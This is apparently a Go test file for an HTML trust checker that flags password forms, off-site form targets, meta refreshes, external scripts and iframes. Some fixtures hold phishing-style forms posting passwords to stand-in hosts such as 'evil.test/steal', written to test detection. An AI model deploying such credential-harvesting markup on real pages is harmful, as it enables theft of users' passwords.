package checker

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/khanhnv2901/dnstrust-cli/internal/trust"
)

func TestHTMLChecker_Name(t *testing.T) {
	c := &HTMLChecker{}
	if c.Name() != "check html" {
		t.Errorf("expected name 'check html', got %q", c.Name())
	}
}

func TestScanHTML(t *testing.T) {
	testCases := []struct {
		name string
		body string
		want htmlSignals
	}{
		{
			name: "Plain page",
			body: `<html><body><p>hello</p></body></html>`,
			want: htmlSignals{},
		},
		{
			name: "Password form posting off-site",
			body: `<form action="https://evil.test/collect"><input type="password" name="p"></form>`,
			want: htmlSignals{forms: 1, offSiteForms: 1, passwordInputs: 1},
		},
		{
			name: "Password form posting same-site",
			body: `<form action="/login"><input type="PASSWORD"></form>`,
			want: htmlSignals{forms: 1, passwordInputs: 1},
		},
		{
			name: "Meta refresh",
			body: `<head><meta http-equiv="Refresh" content="0; url=https://other.test"></head>`,
			want: htmlSignals{metaRefresh: true},
		},
		{
			name: "External and inline scripts",
			body: `<script src="https://cdn.test/a.js"></script><script>var x;</script><script src="/b.js"></script>`,
			want: htmlSignals{scripts: 3, externalScripts: 1},
		},
		{
			name: "Iframes",
			body: `<iframe src="a"></iframe><iframe src="b"></iframe>`,
			want: htmlSignals{iframes: 2},
		},
	}

	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			got := scanHTML(strings.NewReader(tc.body), "example.com")
			if got != tc.want {
				t.Errorf("expected %+v, got %+v", tc.want, got)
			}
		})
	}
}

func TestHTMLChecker_Check(t *testing.T) {
	page := `<html><body>
		<form action="https://evil.test/steal"><input type="password"></form>
		<iframe src="x"></iframe>
	</body></html>`
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte(page))
	}))
	defer server.Close()

	c := &HTMLChecker{Client: server.Client()}
	result := c.Check(context.Background(), server.URL)
	if result.Status != "ok" {
		t.Fatalf("expected ok, got %q (%s)", result.Status, result.Error)
	}

	var formFinding *trust.Finding
	for i := range result.Findings {
		if result.Findings[i].Check == "html_forms" {
			formFinding = &result.Findings[i]
		}
	}
	if formFinding == nil {
		t.Fatal("expected an html_forms finding")
	}
	if formFinding.Delta != -15 {
		t.Errorf("expected delta -15, got %d", formFinding.Delta)
	}

	sum := 0
	for _, f := range result.Findings {
		sum += f.Delta
	}
	if sum != result.Score {
		t.Errorf("score %d does not match finding sum %d", result.Score, sum)
	}
}

func TestHTMLChecker_CleanPageScoresPositive(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte(`<html><body><h1>ok</h1></body></html>`))
	}))
	defer server.Close()

	c := &HTMLChecker{Client: server.Client()}
	result := c.Check(context.Background(), server.URL)
	if result.Score != 5 {
		t.Errorf("expected clean page score 5, got %d", result.Score)
	}
}

func TestHTMLChecker_FetchFailure(t *testing.T) {
	c := &HTMLChecker{}
	result := c.Check(context.Background(), "http://127.0.0.1:1")
	if result.Status != "error" {
		t.Fatalf("expected error status, got %q", result.Status)
	}
	if result.Error == "" {
		t.Error("expected error text")
	}
}
